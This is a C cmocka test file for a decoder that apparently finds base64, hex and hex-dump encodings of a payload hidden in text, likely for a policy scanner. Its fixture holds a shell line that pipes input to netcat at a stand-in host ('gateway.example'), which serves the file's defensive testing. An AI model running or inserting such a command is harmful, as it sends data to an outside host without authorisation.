#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

#include "base/mem.h"
#include "policy/decode.h"

/* 100 bytes of all kinds. */
static const char secret[] =
    "#!/bin/sh\n# stands for a proof of concept, \x01\x7F\xFF and so on\n"
    "printf '%s' \"$1\" | nc gateway.example 8089";

struct wanted {
	bool seen;
	unsigned line;
};

static void
look(void *ctx, unsigned line, struct text *decoded)
{
	struct wanted *wanted = ctx;

	if (memmem(decoded->data, decoded->size, secret, sizeof secret - 1)) {
		wanted->seen = true;
		wanted->line = line;
	}
	text_clear(decoded);
}

static void
assert_decoded(const char *text, unsigned line)
{
	struct wanted wanted = { false, 0 };

	decode(text, strlen(text), look, &wanted);
	if (!wanted.seen)
		fail_msg("not decoded: %s", text);
	assert_int_equal(wanted.line, line);
}

/* The secret in base64 of that width, each line between `before` and `after`. */
static struct text
lines(size_t width, const char *before, const char *after)
{
	struct text coded = { 0 }, text = { 0 };
	char *rest;

	text_base64(&coded, secret, sizeof secret - 1, width);
	rest = coded.data;
	for (char *line = strtok_r(rest, "\r\n", &rest); line;
	     line = strtok_r(rest, "\r\n", &rest)) {
		text_adds(&text, before);
		text_adds(&text, line);
		text_adds(&text, after);
	}
	text_clear(&coded);
	return text;
}

static void
base64_is_found_however_it_is_laid_out(void **state)
{
	static const char *const around[][2] = { { "", "\n" }, { "", "\r\n" },
		{ "    ", "\n" }, { "> > ", "\r\n" }, { "  \"", "\"\n" }, { "# ", "\n" },
		{ "\t| ", " |\n" }, { "\"", "\\n\"\n" }, { "", "\\r\\n" },
		{ "+", "\n" } };
	static const size_t widths[] = { 0, 20, 64, 76 };

	(void)state;
	for (size_t i = 0; i < sizeof around / sizeof *around; i++)
		for (size_t j = 0; j < sizeof widths / sizeof *widths; j++) {
			struct text text = lines(widths[j], around[i][0], around[i][1]);

			assert_decoded(text_string(&text), 1);
			text_clear(&text);
		}
}

static void
base64_is_found_between_words(void **state)
{
	struct text coded = lines(0, "", ""), wrapped = lines(76, "", "\n");
	char *text;

	(void)state;
	text = mem_format("See below.\n\nBy data:text/plain;base64,%s and so on\n",
	    text_string(&coded));
	assert_decoded(text, 3);
	free(text);
	text = mem_format("payload=\"%s\"", text_string(&coded));
	assert_decoded(text, 1);
	free(text);
	text = mem_format("--=_0123456789abcdef0123456789abcdef\nContent-Transfer-"
			  "Encoding: base64\n\n%s\nand words behind it",
	    text_string(&wrapped));
	assert_decoded(text, 4);
	for (char *c = text; *c; c++)
		*c = (char)(*c == '+' ? '-' : *c == '/' ? '_' : *c);
	assert_decoded(text, 4);
	free(text);
	text_clear(&coded);
	text_clear(&wrapped);
}

static void
hexadecimal_is_found_however_it_is_split(void **state)
{
	static const char *const forms[][2] = { { "", "" }, { "", " " }, { "", ":" },
		{ "\\x", "" }, { "0x", ", " }, { "", "\n" }, { "\\x", "\"\n    \"" },
		{ "0x", ",\r\n" }, { "%", "" }, { "", "\n # " }, { "", "\n// " },
		{ "\\x", "\\n\"\n\"" } };

	(void)state;
	for (size_t i = 0; i < sizeof forms / sizeof *forms; i++)
		for (int upper = 0; upper < 2; upper++) {
			struct text text = { 0 };

			text_adds(&text, "As follows:\n");
			for (size_t j = 0; j < sizeof secret - 1; j++)
				text_addf(&text, upper ? "%s%02X%s" : "%s%02x%s",
				    forms[i][0], (unsigned char)secret[j], forms[i][1]);
			assert_decoded(text_string(&text), 2);
			text_clear(&text);
		}
}

/* Rows as xxd, hexdump -C and od write them; what they show as text may look like hex. */
static void
a_dump_is_found_without_its_offsets(void **state)
{
	static const struct {
		const char *before, *behind_offset;
		size_t group;
		const char *shown;
	} styles[] = { { "", ": ", 2, " be ad de ad be.." },
		{ "", "  ", 1, " |#!/bin/sh|" }, { "> ", " ", 1, "" },
		{ "\t# ", " ", 1, " >de ad<" } };

	(void)state;
	for (size_t i = 0; i < sizeof styles / sizeof *styles; i++) {
		struct text text = { 0 };

		text_adds(&text, "It begins with dead beef:\n");
		for (size_t at = 0; at < sizeof secret - 1; at++) {
			if (at % 16 == 0)
				text_addf(&text, "%s%08zx%s", styles[i].before, at,
				    styles[i].behind_offset);
			text_addf(&text, "%02x%s", (unsigned char)secret[at],
			    (at + 1) % styles[i].group ? "" : " ");
			if (at % 16 == 15 || at + 2 == sizeof secret)
				text_addf(&text, "%s\n", styles[i].shown);
		}
		text_adds(&text, "00000064\n");
		assert_decoded(text_string(&text), 2);
		text_clear(&text);
	}
}

static void
count(void *ctx, unsigned line, struct text *decoded)
{
	(void)line;
	++*(size_t *)ctx;
	text_clear(decoded);
}

static void
what_is_short_or_prose_is_left_alone(void **state)
{
	static const char *const texts[] = { "", "=", "0", "0x", "\\x", "QUJD",
		"The document gateway converts files that clients hand to it.",
		"{ 50 54 42 4C ?? ?? FF FF }", "CVE-2026-1234, CVE-2026-1235",
		"-----BEGIN PGP MESSAGE-----" };

	(void)state;
	for (size_t i = 0; i < sizeof texts / sizeof *texts; i++) {
		size_t found = 0;

		decode(texts[i], strlen(texts[i]), count, &found);
		assert_int_equal(found, 0);
	}
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(base64_is_found_however_it_is_laid_out),
		cmocka_unit_test(base64_is_found_between_words),
		cmocka_unit_test(hexadecimal_is_found_however_it_is_split),
		cmocka_unit_test(a_dump_is_found_without_its_offsets),
		cmocka_unit_test(what_is_short_or_prose_is_left_alone),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
